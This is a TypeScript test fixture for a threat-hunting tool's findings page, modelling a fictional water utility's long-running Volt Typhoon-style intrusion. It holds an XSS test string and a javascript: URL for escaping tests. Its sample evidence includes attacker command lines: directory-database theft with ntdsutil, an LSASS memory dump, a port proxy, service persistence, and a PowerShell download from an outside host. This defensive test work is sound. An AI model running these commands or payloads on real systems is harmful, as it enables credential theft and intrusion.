/** A findings page to be tested: a water utility in which somebody stayed for years, told with every kind of trouble. */
import type {
  CaseView,
  Evidence,
  EvidenceLink,
  Intrusion,
  Reach,
  Sight,
  Visibility,
} from '../src/judge/index.ts';
import type { Advisory, Behaviour, Stage } from '../src/know/advisories/index.ts';
import type { LogSetting } from '../src/know/logging/index.ts';
import type { FactValues } from '../src/read/entities/index.ts';
import type { PageInput } from '../src/tell/page/index.ts';
import { at, evidence, intrusion } from './intrusions.ts';

/** What a log may hold to break a page. */
export const hostile: string =
  '</script><script>alert(1)</script><img src=x onerror=alert(1)>"\'`&<!--\u202egnp.exe\u2028\u0000\u001b[31m{{x}}';

/** Hebrew and Arabic, a name of a thousand characters, and one that is nothing but marks. */
export const strangeNames: readonly string[] = [
  'שרת-קבצים.wairua.test',
  'خادم\u202eتجريبي.wairua.test',
  `${'very-long-name-'.repeat(70)}.wairua.test`,
  '\u0301\u0301\u0301',
];

const place = { path: 'behaviours.yml', document: 0, line: 1, column: 1 };

function behaviour(
  id: string,
  title: string,
  stage: Stage,
  attack: string[],
  more: Partial<Behaviour> = {},
): Behaviour {
  return {
    id,
    title,
    stage,
    step: null,
    gravity: 'strong',
    exposes: null,
    attack,
    attackReplaced: {},
    sources: [],
    rules: [],
    lookalikes: [],
    ask: null,
    fetch: null,
    notObservable: null,
    place,
    ...more,
  };
}

const known = {
  vpn: behaviour('VT-IA-01', 'Logon through the VPN from a home router', 'initial-access', [
    'T1133',
    'T1078',
  ]),
  survey: behaviour('VT-DI-01', 'Hosts and accounts surveyed', 'discovery', ['T1087', 'T1018']),
  rdp: behaviour('VT-LM-01', 'Remote desktop with an exposed account', 'lateral-movement', ['T1021.001']),
  ntds: behaviour('VT-CA-01', 'Directory database copied', 'credential-access', ['T1003.003'], {
    gravity: 'grave',
  }),
  lsass: behaviour('VT-CA-02', 'Memory of LSASS dumped', 'credential-access', ['T1003.001'], {
    gravity: 'grave',
  }),
  files: behaviour('VT-CO-01', 'Plant diagrams read over the network', 'collection', ['T1039']),
  archive: behaviour('VT-ST-01', 'Archive with a password in a folder of the system', 'staging', [
    'T1560.001',
  ]),
  proxy: behaviour('VT-C2-01', 'Port proxy switched on', 'command-and-control', ['T1090.001']),
  pickup: behaviour('VT-EX-01', 'Archive fetched over the web server', 'exfiltration', ['T1048']),
  service: behaviour('VT-PE-01', 'Service added', 'persistence', ['T1543.003']),
  cleared: behaviour('VT-DE-01', 'Log cleared', 'defense-evasion', ['T1070.001'], { gravity: 'grave' }),
  firmware: behaviour('VT-DE-09', 'Firmware of an edge device altered', 'defense-evasion', ['T1542'], {
    notObservable: 'No log of Windows or of the device shows it; it takes an image of the device.',
  }),
};

export const advisory: Advisory = {
  id: 'volt-typhoon',
  title: 'Volt Typhoon: living off the land in critical infrastructure',
  version: '1.0.0',
  published: '2026-11-24',
  modified: '2026-11-24',
  actor: { name: 'Volt Typhoon', aliases: [] },
  author: 'Huntaway',
  issuers: [],
  summary: '',
  references: [],
  mitigations: [],
  firstSteps: [],
  behaviours: Object.values(known),
  chain: { steps: [], links: [], intrusion: [], suspected: [] },
  path: '/advisories/volt-typhoon',
  rules: null,
  indicators: null,
};

let count = 0;

function piece(
  time: string,
  host: string,
  account: string | null,
  what: Behaviour,
  example: string,
  values: FactValues = {},
  more: Partial<Evidence> = {},
): Evidence {
  const micros = at(time);
  count++;
  const base = evidence({ micros, host });
  const record = 48_000 + count;
  return {
    ...base,
    id: `e${count}`,
    behaviour: what,
    stage: what.stage,
    account,
    example,
    weight: what.gravity === 'grave' ? 14.2 : 7.5,
    reasons: [`first time this was seen on ${host} in 34 days`, 'the account never worked at that hour'],
    place: { input: 0, offset: 4096 * count, record },
    fact: { ...base.fact, type: values.pid === undefined ? 'event' : 'process-start', values },
    ...more,
  };
}

const hollis = 'WAIRUA\\adm.hollis';
const router = '198.51.100.23';

function stayed(): Intrusion {
  count = 0;
  const pieces = [
    piece('2024-03-11T14:02:10Z', 'vpn1', hollis, known.vpn, 'tunnel up for adm.hollis from 198.51.100.23', {
      sourceIp: router,
    }),
    piece(
      '2024-03-11T14:09:40Z',
      'jump1.wairua.test',
      hollis,
      known.survey,
      'net group "domain admins" /dom',
      {
        sourceIp: router,
        pid: 4120,
        image: 'C:\\Windows\\System32\\net.exe',
        parentImage: 'C:\\Windows\\System32\\cmd.exe',
      },
    ),
    piece(
      '2026-04-02T02:11:00Z',
      'jump1.wairua.test',
      hollis,
      known.survey,
      'wmic /node:dc1 process list brief',
      { pid: 5100, image: 'wmic.exe' },
    ),
    piece('2026-10-08T01:44:02Z', 'vpn1', hollis, known.vpn, 'tunnel up for adm.hollis from 198.51.100.23', {
      sourceIp: router,
    }),
    piece(
      '2026-10-08T01:52:13Z',
      'dc1.wairua.test',
      hollis,
      known.ntds,
      'cmd /c ntdsutil "ac i ntds" ifm "create full C:\\Windows\\Temp\\pro"',
      { pid: 6012, image: 'cmd.exe', parentImage: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe' },
    ),
    piece(
      '2026-10-08T01:52:14Z',
      'dc1.wairua.test',
      hollis,
      known.ntds,
      'ntdsutil "ac i ntds" ifm "create full C:\\Windows\\Temp\\pro"',
      { pid: 6044, parentPid: 6012, image: 'ntdsutil.exe' },
    ),
    piece(
      '2026-10-08T02:01:31Z',
      'dc1.wairua.test',
      hollis,
      known.archive,
      'rar.exe a -hp*** C:\\Windows\\Temp\\pro.gif C:\\Windows\\Temp\\pro',
      { pid: 6100, parentPid: 6012, image: 'rar.exe' },
    ),
    piece(
      '2026-10-08T02:04:00Z',
      'dc1.wairua.test',
      hollis,
      known.proxy,
      'netsh interface portproxy add v4tov4 listenport=50100',
      { pid: 6161, image: 'netsh.exe' },
    ),
    piece('2026-10-08T02:05:10Z', 'dc1.wairua.test', null, known.cleared, 'The audit log was cleared'),
    piece(
      '2026-11-01T19:12:44Z',
      'scada1.wairua.test',
      'WAIRUA\\svc.hist',
      known.rdp,
      'remote desktop from jump1',
      { sourceHost: 'jump1.wairua.test' },
    ),
    piece(
      '2026-11-02T03:05:31Z',
      'scada1.wairua.test',
      'WAIRUA\\svc.hist',
      known.files,
      '\\\\scada1\\projects\\intake-station.vsdx',
    ),
  ];
  const link = (from: number, to: number, reason: string): EvidenceLink => ({
    from: `e${from}`,
    to: `e${to}`,
    reason,
  });
  return intrusion({
    id: 'i-3f2a9c',
    summary:
      'the directory database was taken on dc1.wairua.test, packed, and an exposed account was used at the plant',
    for: [
      'The directory database was taken on dc1 and packed nine minutes later by the same logon 0x7b3a11.',
      'The account svc.hist, exposed by that theft on 2026-10-08 01:52:13 UTC, was used from a host it never came from.',
    ],
    against: ['adm.hollis works on dc1 on most days.'],
    settle: [
      'Ask the directory administrators: did one of you make install-from-media on dc1 on 8 October?',
      'Fetch the Application log of dc1: ESENT names each copy of the database.',
    ],
    firstSeen: pieces[0]!.micros,
    lastSeen: pieces.at(-1)!.micros,
    stages: [
      'initial-access',
      'discovery',
      'credential-access',
      'staging',
      'command-and-control',
      'defense-evasion',
      'lateral-movement',
      'collection',
    ],
    hosts: ['vpn1', 'jump1.wairua.test', 'dc1.wairua.test', 'scada1.wairua.test'],
    accounts: [hollis, 'WAIRUA\\svc.hist'],
    sources: [router],
    evidence: pieces,
    links: [
      link(1, 2, 'same source 198.51.100.23 and account'),
      link(4, 5, 'what the tunnel’s inner address did while it was up'),
      link(5, 6, 'one started the other: process 6012'),
      link(6, 7, 'path C:\\Windows\\Temp\\pro'),
      link(7, 9, 'same logon 0x7b3a11'),
      link(6, 10, 'an account that the theft exposed'),
      link(10, 11, 'same account on the same host'),
    ],
    story: [
      '2024-03-11 14:02:10 to 14:09:40 UTC, WAIRUA\\adm.hollis, coming from 198.51.100.23, on vpn1: Logon through the VPN from a home router.',
      '2026-10-08 01:52:13 to 02:05:10 UTC, WAIRUA\\adm.hollis on dc1.wairua.test: Directory database copied (2 times), Archive with a password in a folder of the system, Port proxy switched on, Log cleared.',
      '2026-11-01 19:12:44 UTC to 2026-11-02 03:05:31 UTC, WAIRUA\\svc.hist on scada1.wairua.test: Remote desktop with an exposed account, Plant diagrams read over the network.',
    ],
    first: [
      'Preserve: copy the logs of dc1.wairua.test, jump1.wairua.test and vpn1 to a place that no account of the domain can write to. Then take memory.',
      'Report: tell the national CERT.',
      'Do not reset passwords one by one: whoever holds the directory database holds them all.',
    ],
  });
}

function perhaps(): Intrusion {
  const pieces = [
    piece(
      '2026-11-20T08:00:00Z',
      'fs1.wairua.test',
      'WAIRUA\\temp',
      known.lsass,
      'rundll32 comsvcs.dll, MiniDump 640 C:\\Users\\temp\\x.dmp full',
      { pid: 900, image: 'rundll32.exe' },
    ),
    piece(
      '2026-11-20T08:03:00Z',
      'fs1.wairua.test',
      'WAIRUA\\temp',
      known.service,
      'sc create upd binPath= C:\\ProgramData\\u.exe',
      { pid: 950, image: 'sc.exe' },
    ),
  ];
  return intrusion({
    id: 'i-90be11',
    verdict: 'suspected',
    score: 58,
    summary: 'memory of LSASS was dumped on fs1.wairua.test',
    for: ['LSASS was dumped on fs1 by an account that is three days old.'],
    against: ['A ticket of the help desk names fs1 on that day.'],
    settle: ['Ask the help desk: who holds WAIRUA\\temp?'],
    firstSeen: pieces[0]!.micros,
    lastSeen: pieces[1]!.micros,
    stages: ['credential-access', 'persistence'],
    hosts: ['fs1.wairua.test'],
    accounts: ['WAIRUA\\temp'],
    sources: [],
    evidence: pieces,
    links: [{ from: pieces[0]!.id, to: pieces[1]!.id, reason: 'same logon 0x51f' }],
    story: [
      '2026-11-20 08:00:00 to 08:03:00 UTC, WAIRUA\\temp on fs1.wairua.test: Memory of LSASS dumped, Service added.',
    ],
    first: ['Preserve: copy the logs of fs1.wairua.test.'],
  });
}

/** Days since 1970. */
const day = (text: string): number => at(`${text}T00:00:00Z`) / 86_400e6;
const span = { from: day('2024-02-20'), to: day('2026-11-25') };

export const settings: readonly LogSetting[] = [
  {
    id: 'command-line',
    kind: 'policy',
    title: 'Command line in process creation events',
    channel: 'Security',
    eventIds: [4688],
    field: 'CommandLine',
    rhythm: 'daily',
    byDefault: 'off',
    command:
      'reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\Audit /v ProcessCreationIncludeCmdLine_Enabled /t REG_DWORD /d 1',
    groupPolicy:
      'Computer Configuration > Administrative Templates > System > Audit Process Creation > Include command line in process creation events',
    registry:
      'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\Audit\\ProcessCreationIncludeCmdLine_Enabled = 1',
    cost: 1,
    source:
      'https://learn.microsoft.com/windows-server/identity/ad-ds/manage/component-updates/command-line-process-auditing',
  },
  {
    id: 'process-creation',
    kind: 'audit-policy',
    title: 'Audit Process Creation',
    channel: 'Security',
    eventIds: [4688],
    field: null,
    rhythm: 'daily',
    byDefault: 'off',
    command: 'auditpol /set /subcategory:{0CCE922B-69AE-11D9-BED3-505054503030} /success:enable',
    cost: 2,
    source:
      'https://learn.microsoft.com/previous-versions/windows/it-pro/windows-10/security/threat-protection/auditing/audit-process-creation',
  },
  {
    id: 'device-vpn',
    kind: 'device',
    title: 'VPN events of the firewall to syslog',
    channel: 'fortigate',
    eventIds: [],
    field: null,
    rhythm: 'daily',
    byDefault: 'off',
    configuration: 'config log syslogd setting\n  set status enable\n  set server 192.0.2.10\nend',
    cost: 3,
    source: 'javascript:alert(1)',
  },
];

function visibility(found: boolean): Visibility {
  const hosts = ['dc1.wairua.test', 'jump1.wairua.test', 'fs1.wairua.test', 'vpn1'];
  const sights: [keyof typeof known, Sight][] = [
    ['vpn', 'found'],
    ['survey', 'found'],
    ['rdp', 'found'],
    ['ntds', 'found'],
    ['lsass', 'found'],
    ['archive', 'found'],
    ['pickup', 'would-have-shown'],
    ['service', 'would-have-shown'],
    ['files', 'could-not-see'],
  ];
  const cells = sights.flatMap(([what, sight]) =>
    hosts.map((host, i) => ({
      behaviour: known[what].id,
      host,
      sight:
        i === 3
          ? ('could-not-see' as const)
          : sight === 'found' && (!found || i > 0)
            ? ('would-have-shown' as const)
            : sight,
      period: span,
      isPartial: what === 'survey',
      blinds: i === 3 ? [1] : what === 'survey' ? [0] : sight === 'could-not-see' ? [2] : [],
    })),
  );
  return {
    span,
    hosts: [
      { host: 'dc1.wairua.test', roles: ['dc'], zone: 'it', basis: 'site', period: span },
      { host: 'jump1.wairua.test', roles: ['jump'], zone: 'dmz', basis: 'site', period: span },
      {
        host: 'fs1.wairua.test',
        roles: ['file'],
        zone: 'it',
        basis: 'logs',
        period: { from: day('2026-10-01'), to: day('2026-11-25') },
      },
      { host: 'vpn1', roles: [], zone: null, basis: 'none', period: span },
      {
        host: 'scada1.wairua.test',
        roles: ['historian'],
        zone: 'ot',
        basis: 'site',
        period: { from: day('2026-11-01'), to: day('2026-11-03') },
      },
      { host: 'hmi2.wairua.test', roles: ['hmi'], zone: 'ot', basis: 'site', period: null },
    ],
    cells,
    blinds: [
      {
        kind: 'field-absent',
        host: 'fs1.wairua.test',
        channel: 'Security',
        eventIds: [4688],
        field: 'CommandLine',
        period: { from: day('2026-10-01'), to: day('2026-11-02') },
        said: '4688 on fs1.wairua.test carries no command line from 2026-10-01 to 2026-11-02',
        settings: ['command-line'],
        behaviours: ['VT-DI-01', 'VT-CA-01'],
      },
      {
        kind: 'no-source',
        host: null,
        channel: 'fortigate',
        eventIds: [],
        field: null,
        period: span,
        said: 'no device that ends tunnels is among the logs before 2026-10-01',
        settings: ['device-vpn'],
        behaviours: ['VT-IA-01'],
      },
      {
        kind: 'log-cleared',
        host: 'dc1.wairua.test',
        channel: 'Security',
        eventIds: [1102],
        field: null,
        period: { from: day('2026-10-08'), to: day('2026-10-09') },
        said: 'Security on dc1.wairua.test was cleared at 2026-10-08 02:05:10 UTC',
        settings: [],
        behaviours: ['VT-CO-01'],
      },
      {
        kind: 'no-logs',
        host: 'hmi2.wairua.test',
        channel: null,
        eventIds: [],
        field: null,
        period: span,
        said: 'hmi2.wairua.test is named by other hosts and has no logs of its own',
        settings: [],
        behaviours: Object.values(known).map(({ id }) => id),
      },
    ],
    fixes: [
      {
        setting: 'command-line',
        hosts: ['fs1.wairua.test', 'scada1.wairua.test'],
        behaviours: ['VT-DI-01', 'VT-CA-01'],
        gain: 640,
      },
      { setting: 'process-creation', hosts: ['jump1.wairua.test'], behaviours: ['VT-DI-01'], gain: 210 },
      { setting: 'device-vpn', hosts: ['vpn1'], behaviours: ['VT-IA-01'], gain: 90 },
    ],
    counts: { found: found ? 6 : 0, 'would-have-shown': 21_400, 'could-not-see': 9800 },
    said: [
      found
        ? 'One plant host of 2 has no logs; command lines are missing on 1 of 6 hosts.'
        : 'Nothing found on 5 of 6 hosts, back 34 months. This does not show absence.',
      'Logs of hmi2 are missing altogether.',
      'Nobody could see VPN logons before 2026-10-01.',
    ],
  };
}

const reached: Reach = {
  state: 'evidence',
  said: 'Reached OT: evidence: svc.hist worked on scada1 from 2026-11-01 to 2026-11-02',
  hosts: [
    {
      host: 'scada1.wairua.test',
      roles: ['historian'],
      because: 'huntaway.yml says zone ot',
      isInferred: false,
      isLogged: true,
    },
    {
      host: 'hmi2.wairua.test',
      roles: ['hmi'],
      because: 'WinCC writes its log there',
      isInferred: true,
      isLogged: false,
    },
  ],
  evidence: [],
  reasons: [
    'A remote desktop session from jump1 to scada1, by an account that the theft exposed.',
    'hmi2 has no logs.',
  ],
  first: [
    'Call the control room and tell them what was seen on scada1, by phone.',
    'Cut at the boundary between office and plant by the plant’s procedure, if the control room agrees.',
    'Preserve: let the plant’s engineers copy the logs of scada1.',
  ],
};

const asked: CaseView = {
  intrusion: 'i-3f2a9c',
  state: 'asked',
  entries: [
    {
      version: 1,
      at: at('2026-11-24T09:12:00Z'),
      decision: 'ask',
      intrusion: 'i-3f2a9c',
      verdict: 'intrusion',
      summary: 'the directory database was taken',
      evidence: [],
      by: 'J. Smith',
      reason: 'was it us?',
      until: null,
      question: { whom: 'A. Hollis', text: 'Did you work on dc1 in the night to 8 October?' },
    },
  ],
  aware: null,
  fresh: [],
  isExpired: false,
};

const raws = (id: string): string =>
  JSON.stringify({
    Event: {
      System: {
        Provider: 'Microsoft-Windows-Security-Auditing',
        EventID: 4688,
        Computer: 'dc1.wairua.test',
        EventRecordID: id,
      },
      EventData: {
        NewProcessName: 'C:\\Windows\\System32\\ntdsutil.exe',
        CommandLine: 'ntdsutil "ac i ntds" ifm',
        TokenElevationType: '%%1936',
      },
    },
  });

/** Two intrusions, one of which reached the plant. */
export function pageInput(over: Partial<PageInput> = {}): PageInput {
  const intrusions = [stayed(), perhaps()];
  const atPlant = intrusions[0]!.evidence.filter(({ host }) => host === 'scada1.wairua.test');
  return {
    run: {
      version: '0.2.0',
      ended: at('2026-11-24T10:00:00Z'),
      paths: ['/evidence/wairua'],
      files: 42,
      events: 1_284_114,
      findings: 311,
      operator: 'Wairua Water',
      incomplete: ['logs/DC1/Security.evtx: 2 of 1,201 chunks are damaged; 31 records could not be read'],
    },
    siteTimeZone: 'Pacific/Auckland',
    advisories: [advisory],
    settings,
    intrusions,
    suppressed: [],
    notes: ['The logs hold 34 days for a baseline; what is usual monthly may look unusual.'],
    visibility: visibility(true),
    reach: {
      ...reached,
      evidence: atPlant.map(each => ({ intrusion: 'i-3f2a9c', evidence: each, host: each.host })),
    },
    cases: [asked],
    skews: [
      {
        host: 'vpn1',
        seconds: -512,
        because: 'its tunnels begin 8 min 32 s before the logons that they carry',
      },
    ],
    inputs: ['logs/DC1/Security.evtx'],
    rawOf: raws,
    rest: [
      {
        title: 'PowerShell download',
        level: 'high',
        host: 'fs1.wairua.test',
        count: 12,
        first: at('2026-10-02T08:00:00Z'),
        last: at('2026-11-20T08:00:00Z'),
        example: 'powershell iwr http://192.0.2.9/a.ps1',
      },
    ],
    ...over,
  };
}

/** Nothing found, and no plant host has logs. */
export function quietInput(): PageInput {
  return pageInput({
    intrusions: [],
    cases: [],
    rest: [],
    notes: [],
    skews: [],
    siteTimeZone: null,
    visibility: visibility(false),
    reach: {
      ...reached,
      state: 'could-not-see',
      said: 'Reached OT: could not see: 1 of 2 plant hosts has no logs',
      reasons: ['hmi2 has no logs.'],
    },
    run: { ...pageInput().run, findings: 0, incomplete: [] },
  });
}

/** Every text of it is hostile. */
export function hostileInput(): PageInput {
  const spoilt = <T>(value: T): T => spoil(value) as T;
  const base = pageInput();
  const { rawOf: _, ...rest } = base;
  return { ...spoilt(rest), siteTimeZone: 'Pacific/Auckland', rawOf: () => hostile };
}

/** Words that the program itself chose keep their place in its tables. */
const kept: ReadonlySet<string> = new Set([
  'verdict',
  'stage',
  'stages',
  'sight',
  'state',
  'zone',
  'basis',
  'kind',
  'decision',
  'type',
  'id',
  'from',
  'to',
  'behaviour',
  'setting',
  'behaviours',
  'intrusion',
]);

function spoil(value: unknown): unknown {
  if (typeof value === 'string') return value + hostile;
  if (Array.isArray(value)) return value.map(spoil);
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, each]) => [key, kept.has(key) && !isObject(each) ? each : spoil(each)]),
  );
}

function isObject(value: unknown): boolean {
  return (
    typeof value === 'object' &&
    value !== null &&
    !(Array.isArray(value) && value.every(each => typeof each === 'string'))
  );
}

/** Hosts and accounts with names that turn, stretch or stack, and evidence without times. */
export function strangeInput(): PageInput {
  const base = pageInput();
  const [first] = base.intrusions;
  const pieces = strangeNames.map((host, i) => ({
    ...first!.evidence[i]!,
    host,
    account: `WAIRUA\\${host}`,
    micros: i === 0 ? 0 : first!.evidence[i]!.micros,
  }));
  return {
    ...base,
    intrusions: [{ ...first!, hosts: strangeNames, accounts: strangeNames, evidence: pieces, links: [] }],
  };
}

/** One intrusion of `evidence` pieces and `rest` groups of other findings. */
export function largeInput(pieces: number, rest: number): PageInput {
  const base = pageInput();
  const [first] = base.intrusions;
  const big = Array.from({ length: pieces }, (_, i) => {
    const like = first!.evidence[i % first!.evidence.length]!;
    return {
      ...like,
      id: `b${i}`,
      micros: at('2025-01-01T00:00:00Z') + Math.floor(i / 50) * 4 * 3600e6 + (i % 50) * 7e6,
      host: `host${(i * 7) % 90}.wairua.test`,
      weight: 1 + (i % 13),
    };
  });
  return {
    ...base,
    intrusions: [
      {
        ...first!,
        evidence: big,
        links: big.slice(1).map((each, i) => ({ from: big[i]!.id, to: each.id, reason: 'same account' })),
      },
    ],
    rest: Array.from({ length: rest }, (_, i) => ({
      ...base.rest[0]!,
      host: `host${i % 3000}.wairua.test`,
      count: 1 + (i % 40),
    })),
  };
}
